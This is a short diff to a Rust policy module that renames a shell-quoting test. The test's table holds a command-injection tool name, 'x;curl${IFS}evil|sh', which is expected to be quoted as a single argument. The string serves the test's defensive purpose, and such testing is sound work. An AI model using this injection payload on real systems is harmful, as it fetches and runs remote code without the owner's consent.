@@ -7,7 +7,7 @@ use crate::contract::{Code, Denial, Flow};
 /// The longest reason or name that denials and the audit quote, in bytes. Longer ones are cut.
 const MAX_REASON: usize = 512;
 
-/// Policy decisions, as the audit log and denials name them.
+// Policy decisions, as the audit log and denials name them.
 pub(super) const ALLOW: &str = "allow";
 pub(super) const REDACT: &str = "redact";
 pub(super) const ASK: &str = "ask";
@@ -134,7 +134,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn the_command_that_accepts_a_definition_quotes_the_tools_name_for_sh() {
+    fn the_command_that_accepts_a_definition_passes_any_tool_name_as_one_argument() {
         for (tool, expected) in [
             ("fetch", "fetch"),
             ("x;curl${IFS}evil|sh", "'x;curl${IFS}evil|sh'"),
